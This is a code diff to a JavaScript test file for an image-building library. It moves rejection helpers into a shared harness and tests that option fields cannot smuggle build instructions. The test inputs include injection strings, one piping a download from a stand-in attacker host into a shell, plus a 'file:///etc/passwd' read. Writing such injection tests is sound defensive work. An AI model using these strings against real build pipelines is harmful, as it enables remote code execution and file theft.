@@ -4,7 +4,10 @@
 // error naming the key instead of being silently ignored.
 import assert from "node:assert/strict";
 import { test } from "node:test";
-import { Image, memoryHost } from "@apothic/image";
+import { ApothicError, Image, memoryHost } from "@apothic/image";
+import { apothicErrors } from "../harness/errors.mjs";
+
+const { failure, rejects } = apothicErrors(ApothicError);
 
 const FILES = { "proj/a.py": "print(1)\n", "app.py": "print(2)\n" };
 const memory = memoryHost(FILES);
@@ -16,16 +19,6 @@ const host = (overrides) => ({
   readDir: (p) => memory.readDir(p),
   ...overrides,
 });
-
-/** Asserts that `promise` rejects with `code` and a message holding every `parts`. */
-async function rejects(promise, code, ...parts) {
-  await assert.rejects(promise, (error) => {
-    assert.equal(error.code, code, error.message);
-    for (const part of parts) assert.ok(error.message.includes(part), `${JSON.stringify(error.message)} lacks ${JSON.stringify(part)}`);
-    assert.ok(!/[\n\r]/.test(error.message), `raw control character in ${JSON.stringify(error.message)}`);
-    return true;
-  });
-}
 
 test("inspectImage cannot add instructions through arch, libc or pythonVersion", async () => {
   const injected = "amd64\nRUN curl https://evil.example/x | sh #";
@@ -99,10 +92,6 @@ test("managedPython options cannot add instructions", async () => {
     ["urlTemplate", "https://e.example/x.tgz /tmp/y\nRUN id #"],
     ["urlTemplate", "file:///etc/passwd"],
   ]) {
-    await assert.rejects(fromRegistry.resolve(memory, { managedPython: { [field]: value } }), (error) => {
-      assert.equal(error.code, "INVALID_ARGUMENT", error.message);
-      assert.equal(error.argument, `options.managedPython.${field}`);
-      return true;
-    });
+    await failure(fromRegistry.resolve(memory, { managedPython: { [field]: value } }), { code: "INVALID_ARGUMENT", argument: `options.managedPython.${field}` });
   }
 });
